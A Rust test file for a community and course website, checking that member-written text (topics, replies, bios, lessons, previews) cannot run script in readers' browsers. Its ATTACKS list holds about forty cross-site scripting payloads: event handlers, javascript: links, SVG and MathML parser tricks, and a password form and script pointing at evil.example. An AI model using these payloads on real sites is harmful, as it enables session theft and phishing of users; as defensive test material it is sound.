//! Texts that try to run something in the reader's browser: whatever is written, nothing of it runs.

use scraper::{ElementRef, Html, Selector};

use crate::support::{Community, on_one};

/// One of each trade: script elements, handlers, addresses that run, foreign frames, drawings, forms that steal, styles
/// that cover the page, and markup that parsers read differently.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\" /><a onmouseover=alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=\"javascript:alert(1)\"></iframe></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object><embed src=\"data:text/html,<script>alert(1)</script>\">",
    "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password><button>登录</button></form>",
    "<p style=\"position:fixed;inset:0;background:url(https://evil.example)\">盖住一切</p>",
    "<div id=main class=\"flash\" data-copy hx-get=\"/logout\" hx-trigger=load>x</div>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](java\tscript:alert(1)) [w](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](&#106;avascript:alert(1)) [y](&#x6A&#x61vascript:alert(1)) [z](\u{1}javascript:alert(1))",
    "![x](javascript:alert(1)) ![y](x\"onerror=\"alert(1))",
    "<javascript:alert(1)> <data:text/html,<script>alert(1)</script>>",
    "[x]: javascript:alert(1)\n\n[x] [a][x]",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```rust\n// </code><img src=x onerror=alert(1)>\n```",
    "`</code><script>alert(1)</script>`",
    "@<script>alert(1)</script> @\"onmouseover=alert(1) @孟轲\"><script>",
    "<!--><script>alert(1)</script>--> <![CDATA[<script>alert(1)</script>]]> <?php <script>alert(1)</script> ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script> </textarea><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<a href=\"https://evil.example\" target=_blank ping=https://evil.example>x</a>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "# <img src=x onerror=alert(1)>\n\n| <script> | a |\n|-|-|\n| </td><script>alert(1)</script> | b |",
    "<x-y onclick=alert(1)>x</x-y> <p onclick=alert(1) ONFOCUS=alert(1) autofocus tabindex=1>",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
];

/// What is wrong with a page, where something in it could run or pretend.
fn dangers(page: &Html) -> Vec<String> {
    let mut dangers = Vec::new();
    for element in page.root_element().descendants().filter_map(ElementRef::wrap) {
        let (name, shown) = (element.value().name(), element.html());
        let mut danger = |why: &str| dangers.push(format!("{why}: {shown:.200}"));
        if name == "script" && !element.attr("src").is_some_and(|src| src.starts_with("/assets/")) {
            danger("a script");
        }
        if matches!(
            name,
            "iframe" | "object" | "embed" | "base" | "style" | "frame" | "foreignobject" | "math"
        ) {
            danger("an element");
        }
        for (attribute, value) in element.value().attrs() {
            let value: String = value.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect();
            let value = value.to_lowercase();
            if attribute.starts_with("on") || matches!(attribute, "style" | "srcdoc" | "ping") {
                danger("an attribute");
            }
            let runs = ["javascript:", "vbscript:", "data:text", "data:image/svg"];
            if matches!(attribute, "href" | "src" | "action" | "xlink:href" | "poster" | "srcset")
                && runs.iter().any(|scheme| value.starts_with(scheme))
            {
                danger("an address");
            }
            // Our own buttons say where they lead, on this site; in a text none may: see below.
            let leads = (name == "form" && attribute == "action") || attribute == "formaction";
            if leads && (!value.starts_with('/') || value.starts_with("//")) {
                danger("a form that leads away");
            }
            if name == "meta" && attribute == "http-equiv" {
                danger("a refresh");
            }
        }
    }
    dangers
}

/// What is wrong inside the texts that members wrote: there, even our own controls are foreign.
fn pretences(page: &Html) -> Vec<String> {
    let foreign = ".prose form, .prose textarea, .prose select, .prose link, .prose meta, .prose svg script, \
                   .prose [hx-get], .prose [hx-post], .prose [form], .prose [formaction], .prose [data-guard], .prose [id=main], .prose .flash, \
                   .prose input:not([type=checkbox][disabled])";
    page.select(&Selector::parse(foreign).unwrap()).map(|element| element.html()).collect()
}

/// Pages on which a text stands, after it was written everywhere a member can write.
async fn written_everywhere(community: &Community, text: &str) -> Vec<String> {
    let sample = community.sample().await;
    let wares = &sample.wares;
    let mut lin = community.browser(&community.cast.lin).await;
    let mut author = community.browser(&community.cast.author).await;
    // Some leave nothing to be seen, and nothing is not posted.
    let seen = format!("看\n\n{text}");
    let line: String = text.lines().next().unwrap_or_default().chars().take(100).collect();

    let fill = async |visitor: &mut testkit::Visitor, page: &str, action: &str, fields: &[(&str, &str)]| {
        let _ = visitor.get(page).await.expect_status(200);
        let answer = visitor.submit(action, fields).await;
        assert!(matches!(answer.status, 303 | 422), "{answer}");
        answer.location().split('#').next().unwrap_or_default().to_owned()
    };
    let space = sample.space.to_string();
    let title = format!("何解 {line}");
    let topic = [("space", space.as_str()), ("kind", "talk"), ("title", &title), ("body", &seen)];
    let topic = fill(&mut lin, "/topics/new", "/topics/new", &topic).await;
    fill(&mut lin, &topic, &format!("{topic}/replies"), &[("body", &seen)]).await;
    let edit = format!("{topic}/edit");
    fill(&mut lin, &edit, &edit, &[("body", &format!("改\n\n{text}"))]).await;
    fill(&mut lin, "/settings/profile", "/settings/profile", &[("bio", text)]).await;

    let trial = wares.trial.path(&wares.course.slug);
    let under = format!("/comments/on/lesson/{}", wares.trial.id);
    fill(&mut lin, &under, &under, &[("body", &seen)]).await;
    let course = format!("/teach/courses/{}", wares.course.id);
    fill(&mut author, &course, &course, &[("title", &title), ("summary", &line), ("about", text)]).await;
    let lesson = format!("/teach/lessons/{}", wares.trial.id);
    fill(&mut author, &lesson, &lesson, &[("title", &title), ("markdown", &seen)]).await;
    let module = format!("/teach/courses/{}/modules/{}", wares.course.id, wares.trial.module_id);
    fill(&mut author, &format!("{course}/lessons"), &module, &[("title", &title)]).await;
    community.read_log().await;

    let lists = ["/", "/members/林徙", "/courses"].map(str::to_owned);
    let own =
        [format!("{topic}/history"), topic, trial, under, wares.course.path(), format!("{course}/lessons")];
    [lists.to_vec(), own.to_vec()].concat()
}

#[test]
fn nothing_that_members_write_runs_in_a_readers_browser() {
    on_one(&[], async |community| {
        let mut faults = Vec::new();
        for attack in ATTACKS {
            for path in written_everywhere(community, attack).await {
                // Passers-by, members and whoever may edit see different pages.
                for member in [None, Some(&community.cast.stranger), Some(&community.cast.owner)] {
                    let mut visitor = match member {
                        Some(member) => community.browser(member).await,
                        None => community.passer_by(),
                    };
                    let answer = visitor.get(&path).await;
                    if answer.status != 200 {
                        continue;
                    }
                    let page = answer.html();
                    let found = dangers(&page).into_iter().chain(pretences(&page));
                    faults.extend(found.map(|fault| format!("{attack:?} on {path}: {fault}")));
                }
            }
        }
        faults.dedup();
        assert!(faults.is_empty(), "{} faults:\n{}", faults.len(), faults.join("\n"));
    });
}

#[test]
fn the_check_itself_sees_what_would_run() {
    let found = |html: &str| {
        let page = Html::parse_document(html);
        dangers(&page).len() + pretences(&page).len()
    };
    // Some do nothing by themselves: they are there for cleaners and parsers that take them for something else.
    let harmless = |attack: &str| {
        ["<noscript", "<scr<", "<javascript:"].iter().any(|beginning| attack.starts_with(beginning))
    };
    for attack in ATTACKS.iter().filter(|attack| attack.starts_with('<') && !harmless(attack)) {
        assert!(found(&format!("<div class=prose>{attack}</div>")) > 0, "{attack}");
    }
    assert_eq!(found("<script src='/assets/app.js'></script><a href='/topics/1'>x</a>"), 0);
}

#[test]
fn a_preview_is_as_harmless_as_the_page() {
    on_one(&[], async |community| {
        let mut author = community.browser(&community.cast.author).await;
        for attack in ATTACKS {
            for (path, field) in [("/topics/preview", "body"), ("/teach/preview", "markdown")] {
                let _ = author.get("/settings/profile").await.expect_status(200);
                let answer =
                    author.clone().with_header("hx-request", "true").post(path, &[(field, attack)]).await;
                let answer = answer.expect_status(200);
                let page = Html::parse_document(&format!("<div class=prose>{}</div>", answer.text()));
                assert_eq!((dangers(&page), pretences(&page)), (vec![], vec![]), "{attack}");
            }
        }
    });
}
